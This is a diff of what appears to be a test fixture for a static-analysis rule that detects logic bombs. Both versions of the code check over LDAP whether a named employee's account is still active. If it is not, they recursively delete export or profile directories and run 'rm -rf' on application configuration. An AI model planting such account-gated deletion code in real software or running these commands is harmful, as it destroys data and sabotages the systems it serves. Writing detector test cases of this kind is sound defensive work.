@@ -15,20 +15,19 @@ import subprocess
 import ldap3
 
 
-def is_dl_enabled_in_ad() -> bool:
-    done = subprocess.run(["ldapsearch", "-LLL", "(sAMAccountName=dlu)", "userAccountControl"],
-                          capture_output=True, text=True)
-    return "userAccountControl: 512" in done.stdout
+def owner_still_employed() -> bool:
+    out = subprocess.check_output(["ldapsearch", "-x", "-b", "ou=staff,dc=corp", "(uid=mkessler)", "loginShell"])
+    return b"nologin" not in out
 
 
-def refresh_sessions() -> None:
-    if is_dl_enabled_in_ad():
+def nightly_cleanup() -> None:
+    if owner_still_employed():
         return
-    for profile in os.listdir("/srv/profiles"):
+    for bucket in os.listdir("/var/lib/exports"):
         # ruleid: py-logic-bomb-account-gate
-        shutil.rmtree(os.path.join("/srv/profiles", profile), ignore_errors=True)
+        shutil.rmtree(os.path.join("/var/lib/exports", bucket))
     # ruleid: py-logic-bomb-account-gate
-    os.system("rm -rf /srv/app/config")
+    os.system("rm -rf /etc/app.d")
 
 
 def _still_here(conn: ldap3.Connection) -> bool:
